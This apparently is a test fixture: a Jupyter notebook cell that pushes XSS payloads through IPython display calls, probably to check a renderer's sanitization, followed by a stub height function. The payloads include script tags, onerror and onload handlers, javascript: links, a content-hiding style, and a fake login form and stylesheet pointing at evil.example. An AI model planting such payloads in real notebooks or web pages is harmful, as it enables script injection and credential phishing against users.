# base: solution
# attacks: height
# keeps: roll gradients
# finding: Hello from a table
# %% height
from IPython.display import HTML, Javascript, Markdown, display, publish_display_data

display(Javascript("alert(1)"))
display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)><iframe srcdoc='x'></iframe>"))
display(HTML("<table onclick='alert(1)'><tr><td>Hello from a table</td></tr></table><a href='javascript:x'>x</a>"))
display(HTML("<style>* {display: none}</style><link rel=stylesheet href=//evil.example><svg onload=alert(1)>"))
display(HTML("<form action=//evil.example><input name=x><button>Log in</button></form><meta http-equiv=refresh>"))
publish_display_data({"image/svg+xml": "<svg onload=alert(1)>", "application/javascript": "alert(1)"})
publish_display_data({"text/latex": r"$\href{javascript:alert(1)}{x}$", "text/markdown": "[x](javascript:alert(1))"})
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/html": "<b>fine</b>"})

def height(w):
    return 0.0
